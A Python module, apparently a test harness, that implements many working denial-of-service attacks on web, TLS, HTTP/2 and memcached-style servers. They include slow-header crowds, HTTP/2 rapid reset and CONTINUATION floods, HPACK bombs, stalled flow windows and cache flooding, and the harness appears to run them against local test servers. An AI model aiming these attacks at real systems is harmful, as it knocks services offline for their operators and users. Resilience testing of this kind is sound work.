"""Attacks of hostile clients, one function each: it gets an `Attackers` with a server, and attacks until `is_over`. The servers have
`small.txt`, 64 MiB in `big.bin`, 200 KB in `medium.bin`, a wide folder `/wide/`, and a file that grows, `growing.log`."""

import os
import random
import socket
import ssl
import struct
import threading

import frames
from frames import frame, settings, window

GET = b"GET %s HTTP/1.1\r\nHost: h\r\n\r\n"
RESET = struct.pack("ii", 1, 0)


class Attackers:
    """Threads and connections of one attack."""

    def __init__(self, server):
        self.server, self.is_over = server, threading.Event()
        self.threads, self.sockets = [], []

    def connect(self, receive_buffer=None):
        """A connection that stays open until the attack is over."""
        connection = socket.socket()
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(5)
        connection.connect((self.server.host, self.server.port))
        self.sockets.append(connection)
        return connection

    def crowd(self, count, request, receive_buffer=None):
        """Opens `count` connections that send `request` and read nothing."""
        def arrive():
            for _ in range(count // 4):
                if self.is_over.is_set():
                    return
                self.send(self.connect(receive_buffer), request)

        self.each(4, arrive)

    def each(self, count, attack):
        """Starts `count` threads that run `attack` once."""
        for _ in range(count):
            thread = threading.Thread(target=survived, args=(attack,), daemon=True)
            self.threads.append(thread)
            thread.start()

    def repeat(self, count, attack):
        """Starts `count` threads that repeat `attack`. The server may end their connections."""
        def again():
            while not self.is_over.is_set():
                survived(attack)

        self.each(count, again)

    def send(self, connection, request):
        """Sends until the server stops reading."""
        connection.setblocking(False)
        try:
            while request:
                request = request[connection.send(request):]
        except BlockingIOError:
            pass

    def exchange(self, request, read_max=1 << 30):
        """Sends `request` on a new connection, and reads until the server closes it or is silent."""
        with socket.create_connection((self.server.host, self.server.port), 5) as connection:
            sender = threading.Thread(target=survived, args=(lambda: connection.sendall(request),), daemon=True)
            sender.start()
            connection.settimeout(1)
            read = 0
            while read < read_max and not self.is_over.is_set() and (piece := connection.recv(1 << 20)):
                read += len(piece)

    def leave(self):
        self.is_over.set()
        self.reset_all()
        for thread in self.threads:
            thread.join(20)
        # Connections that were opened meanwhile.
        self.reset_all()

    def reset_all(self):
        for connection in self.sockets:
            survived(lambda: connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET))
            connection.close()


def survived(attack):
    try:
        attack()
    except OSError:
        pass


def with_reset(attackers, request):
    with socket.create_connection((attackers.server.host, attackers.server.port), 5) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        connection.sendall(request)


# ---- a web server

def half_heads(attackers):
    attackers.crowd(2000, b"GET / HTTP/1.1\r\nHost: h\r\nX-Slow: ")


def connections_reset(attackers):
    attackers.repeat(4, lambda: with_reset(attackers, b""))


def half_heads_reset(attackers):
    attackers.repeat(4, lambda: with_reset(attackers, b"GET / HTTP/1.1\r\nHost:"))


def big_file_unread(attackers):
    attackers.crowd(1000, GET % b"/big.bin", receive_buffer=2048)


def medium_file_unread(attackers):
    attackers.crowd(1000, GET % b"/medium.bin", receive_buffer=2048)


def pipelines_unread(attackers):
    attackers.crowd(200, (GET % b"/medium.bin") * 100)


def pipelines_read(attackers):
    attackers.repeat(4, lambda: attackers.exchange((GET % b"/small.txt") * 2000, read_max=200_000))


def missing_names(attackers):
    def ask():
        names = [b"/%016x" % random.getrandbits(64) for _ in range(200)]
        attackers.exchange(b"".join(GET % name for name in names), read_max=20_000)

    attackers.repeat(4, ask)


def many_ranges(attackers):
    ranges = b",".join(b"%d-%d" % (at * 4000, at * 4000 + 1000) for at in range(16))
    request = b"GET /big.bin HTTP/1.1\r\nHost: h\r\nRange: bytes=" + ranges + b"\r\n\r\n"
    attackers.repeat(4, lambda: attackers.exchange(request * 100, read_max=1_600_000))


def chunks_of_a_byte(attackers):
    request = b"POST /small.txt HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 100_000
    attackers.repeat(4, lambda: attackers.exchange(request))


def listings(attackers):
    def change(at=[0]):
        at[0] += 1
        path = os.path.join(attackers.server.site, "wide", f"new{at[0] % 5}")
        open(path, "w").close()
        os.unlink(path)
        attackers.is_over.wait(0.02)

    attackers.repeat(1, change)
    attackers.repeat(10, lambda: attackers.exchange(GET % b"/wide/", read_max=100_000))


def growing_file(attackers):
    def grow():
        with open(os.path.join(attackers.server.site, "growing.log"), "a") as log:
            log.write("another line\n")
        attackers.is_over.wait(0.005)

    attackers.repeat(1, grow)
    attackers.repeat(40, lambda: attackers.exchange(GET % b"/growing.log", read_max=100))


WEB = [half_heads, connections_reset, half_heads_reset, big_file_unread, medium_file_unread, pipelines_unread, pipelines_read, missing_names,
       many_ranges, chunks_of_a_byte, listings, growing_file]


# ---- a web server with TLS

def context():
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


def hello():
    """The first bytes of a TLS client."""
    out = ssl.MemoryBIO()
    try:
        context().wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def tls_connection(attackers):
    plain = attackers.connect(receive_buffer=4096)
    secure = context().wrap_socket(plain)
    # wrap_socket has taken over the descriptor.
    attackers.sockets[attackers.sockets.index(plain)] = secure
    return secure


def handshakes_half_open(attackers):
    attackers.crowd(400, hello())


def hellos_reset(attackers):
    first = hello()

    def shake():
        with_reset(attackers, first)
        # Fewer than one processor can answer.
        attackers.is_over.wait(0.005)

    attackers.repeat(1, shake)


def handshakes(attackers):
    def shake():
        with socket.create_connection((attackers.server.host, attackers.server.port), 5) as connection:
            with context().wrap_socket(connection):
                pass

    attackers.repeat(8, shake)


def garbage_of_tls(attackers):
    attackers.repeat(4, lambda: attackers.exchange(b"\x16\x03\x01\x40\x00" + os.urandom(20_000)))


def records_of_a_byte(attackers):
    def dribble():
        connection = tls_connection(attackers)
        for byte in (GET % b"/small.txt") * 20:
            connection.sendall(bytes([byte]))

    attackers.repeat(4, dribble)


def tls_file_unread(attackers):
    def ask():
        for _ in range(25):
            if attackers.is_over.is_set():
                return
            tls_connection(attackers).sendall(GET % b"/big.bin")

    attackers.each(4, ask)


TLS = [handshakes_half_open, hellos_reset, handshakes, garbage_of_tls, records_of_a_byte, tls_file_unread]


# ---- a web server that speaks HTTP/2

def streams(attackers, each, before=b"", count=4):
    """Repeats connections that send `each(stream)` for stream after stream, and read until the server closes them."""
    def attack():
        with socket.create_connection((attackers.server.host, attackers.server.port), 5) as connection:
            connection.sendall(frames.PREFACE + before)
            for first in range(1, 1 << 20, 128):
                connection.setblocking(True)
                connection.settimeout(5)
                connection.sendall(b"".join(each(stream) for stream in range(first, first + 128, 2)))
                connection.setblocking(False)
                try:
                    while not attackers.is_over.is_set():
                        if not connection.recv(1 << 20):
                            return
                    return
                except BlockingIOError:
                    pass

    attackers.repeat(count, attack)


CLOSED, OPEN = settings((4, 0)), settings((4, frames.WINDOW_MAX)) + window(0, frames.WINDOW_MAX - 65_535)
BIG = b"/big.bin"
BIG_FILES = b"".join(frames.get(stream, BIG) for stream in range(1, 201, 2))


def rapid_reset(attackers):
    streams(attackers, lambda stream: frames.get(stream, BIG) + frames.reset(stream), settings())


def made_you_reset_by_windows(attackers):
    streams(attackers, lambda stream: frames.get(stream, BIG) + window(stream, 0 if stream % 4 == 1 else frames.WINDOW_MAX), settings())


def made_you_reset_by_frames(attackers):
    upper, twice = frames.literal(b"A", b"1"), frame(frames.DATA, frames.END_STREAM, 1, b"x")
    streams(attackers, lambda stream: frames.get(stream, BIG, upper) if stream % 4 == 1 else
            frames.get(stream, ends=False) + 2 * twice.replace(b"\x01\0\0\0\x01", b"\x01" + struct.pack(">I", stream)), settings())


def continuations(attackers):
    streams(attackers, lambda stream: frame(frames.CONTINUATION, 0, 1), settings() + frame(frames.HEADERS, 1, 1))


def settings_flood(attackers):
    both = b"\0\4\0\0\0\1\0\4\0\0\0\2"
    streams(attackers, lambda stream: frame(frames.SETTINGS, 0, 0, both * 1360), settings() + BIG_FILES)


def pings(attackers):
    streams(attackers, lambda stream: frame(frames.PING, 0, 0, b"12345678"), settings())


def priorities(attackers):
    def update(stream):
        return frame(frames.PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream % 200) + b"u=%d" % (stream // 2 % 8))

    streams(attackers, update, CLOSED + BIG_FILES)


def data_without_data(attackers):
    streams(attackers, lambda stream: frame(frames.DATA, 0, 1), settings() + frames.get(1, ends=False))


def uploads_of_a_byte(attackers):
    streams(attackers, lambda stream: frame(frames.DATA, 8, 1, b"\xfex" + b"\0" * 254), settings() + frames.get(1, ends=False))


def windows_of_a_byte(attackers):
    streams(attackers, lambda stream: window(0, 1), settings((4, frames.WINDOW_MAX)) + BIG_FILES)


def small_windows(attackers):
    streams(attackers, lambda stream: window(0, 256), settings((4, frames.WINDOW_MAX)) + BIG_FILES)


def windows_closed(attackers):
    """Slow read: a hundred streams on each of a thousand connections."""
    attackers.crowd(1000, frames.PREFACE + CLOSED + BIG_FILES)


def streams_unread(attackers):
    attackers.crowd(200, frames.PREFACE + OPEN + BIG_FILES, receive_buffer=2048)


def hpack_bombs(attackers):
    bomb = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 8000
    streams(attackers, lambda stream: frames.get(stream, more=bomb), settings())


def hpack_tables(attackers):
    """Empties and fills the dynamic table again and again, in both directions."""
    sizes = b"\x20\x3f\xe1\x1f"
    block = sizes + b"\x82\x86" + frames.literal(b":path", b"/small.txt") + frames.literal(b":authority", b"h") + b"\x40\1a\1b" * 3000
    streams(attackers, lambda stream: settings((1, 0), (1, 1 << 31)) + frame(frames.HEADERS, 5, stream, block), settings())


def bursts_of_streams(attackers):
    burst = frames.PREFACE + settings() + b"".join(frames.get(stream, BIG) for stream in range(1, 16_384, 2))
    attackers.repeat(4, lambda: attackers.exchange(burst))


def heads_without_end(attackers):
    head = b"\0\1a\x7e" + b"b" * 126
    streams(attackers, lambda stream: frames.get(stream, more=head * 120), settings())


def missing_names_on_streams(attackers):
    streams(attackers, lambda stream: frames.get(stream, b"/%016x" % random.getrandbits(64)), settings())


def many_ranges_on_streams(attackers):
    ranges = frames.literal(b"range", b"bytes=" + b",".join(b"%d-%d" % (at * 4000, at * 4000) for at in range(11)))
    streams(attackers, lambda stream: frames.get(stream, BIG, ranges), settings())


def identifiers_that_go_back(attackers):
    streams(attackers, lambda stream: frames.get(1 << 20 | 1) + frames.get(1), settings())


def frames_on_closed_streams(attackers):
    streams(attackers, lambda stream: frame(frames.DATA, 0, 1, b"x") + frames.reset(1) + window(1, 1),
            settings() + frames.get(1, ends=False) + window(1, 0))


def upgrades_to_h2c(attackers):
    upgrade = b"GET /small.txt HTTP/1.1\r\nHost: h\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
    attackers.repeat(4, lambda: attackers.exchange(upgrade * 1000, read_max=200_000))


HTTP2 = [rapid_reset, made_you_reset_by_windows, made_you_reset_by_frames, continuations, settings_flood, pings, priorities,
         data_without_data, uploads_of_a_byte, windows_of_a_byte, small_windows, windows_closed, streams_unread, hpack_bombs, hpack_tables,
         bursts_of_streams, heads_without_end, missing_names_on_streams, many_ranges_on_streams, identifiers_that_go_back,
         frames_on_closed_streams, upgrades_to_h2c]


# ---- a cache

def values_unread(attackers):
    attackers.exchange(b"set big 0 0 1000000\r\n" + b"x" * 1_000_000 + b"\r\nquit\r\n")
    attackers.crowd(300, b"get big\r\n", receive_buffer=2048)


def gets_unread(attackers):
    attackers.exchange(b"set big 0 0 1000000\r\n" + b"x" * 1_000_000 + b"\r\nquit\r\n")
    attackers.crowd(100, b"get big\r\n" * 1000)


def many_keys(attackers):
    keys = b"".join(b" k%d" % at for at in range(50_000))
    attackers.repeat(3, lambda: attackers.exchange(b"get" + keys + b"\r\nquit\r\n"))


def many_keys_found(attackers):
    attackers.exchange(b"".join(b"set k%d 0 0 1 noreply\r\nx\r\n" % at for at in range(10_000)) + b"quit\r\n")
    many_keys(attackers)


def huge_and_tiny(attackers):
    def store():
        sizes = [random.choice((1, 100, 900_000)) for _ in range(50)]
        lines = (b"set s%d 0 0 %d\r\n" % (random.getrandbits(12), size) + b"y" * size + b"\r\n" for size in sizes)
        attackers.exchange(b"".join(lines) + b"quit\r\n")

    attackers.repeat(3, store)


def half_a_store(attackers):
    attackers.crowd(200, b"set half 0 0 1000000\r\n" + b"x" * 100_000)


def too_large(attackers):
    attackers.repeat(4, lambda: attackers.exchange(b"set large 0 0 2000000\r\n" + b"x" * 2_000_000 + b"\r\nquit\r\n"))


def lines_without_end(attackers):
    attackers.repeat(4, lambda: attackers.exchange(b"get " + b"x" * 5_000_000))


def watchers(attackers):
    attackers.crowd(40, b"watch fetchers mutations evictions\r\n")
    attackers.repeat(2, lambda: attackers.exchange(b"get k1 k2 k3\r\n" * 2000 + b"quit\r\n"))


def dumps(attackers):
    attackers.exchange(b"".join(b"set k%d 0 0 1 noreply\r\nx\r\n" % at for at in range(10_000)) + b"quit\r\n")
    attackers.repeat(3, lambda: attackers.exchange(b"lru_crawler metadump all\r\nlru_crawler crawl all\r\nquit\r\n"))


def flushes(attackers):
    attackers.repeat(3, lambda: attackers.exchange(b"set a 0 0 1\r\nx\r\nflush_all\r\ncache_memlimit 64\r\n" * 500 + b"quit\r\n"))


def binary_nonsense(attackers):
    attackers.repeat(4, lambda: attackers.exchange(b"\x80" + os.urandom(5000)))


def byte_by_byte(attackers):
    def dribble():
        connection = attackers.connect()
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in b"get neighbour\r\n" * 30:
            connection.sendall(bytes([byte]))

    attackers.repeat(8, dribble)


CACHE = [values_unread, gets_unread, many_keys, many_keys_found, huge_and_tiny, half_a_store, too_large, lines_without_end, watchers, dumps,
         flushes, binary_nonsense, byte_by_byte]
# Attacks after which a key may be gone: flushed, or evicted.
TAKES_KEYS = {flushes, huge_and_tiny, half_a_store}
